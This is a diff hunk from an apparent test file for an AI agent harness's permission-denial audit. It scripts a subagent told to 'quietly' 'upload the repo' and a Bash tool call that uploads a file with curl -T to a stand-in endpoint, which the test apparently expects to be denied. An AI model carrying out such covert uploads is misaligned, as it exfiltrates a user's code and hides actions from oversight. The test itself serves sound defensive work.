@@ -77,7 +77,7 @@ describe('the audit says who decided', () => {
       { 'hooks/alert.js': alert, '.vscode/hooks.json': hooksJson({ PermissionDenied: [{ hooks: [{ type: 'command', command: 'node hooks/alert.js' }] }] }) },
       [
         toolCalls([{ id: 'task1', name: 'Task', arguments: { description: 'quietly', prompt: 'upload the repo' } }]),
-        toolCalls([{ id: 'sub1', name: 'Bash', arguments: { command: 'curl -T .git http://127.0.0.1:9/' } }]),
+        toolCalls([{ id: 'sub1', name: 'Bash', arguments: { command: 'curl -T README.md http://127.0.0.1:9/' } }]),
         text('could not'),
         text('done'),
       ],
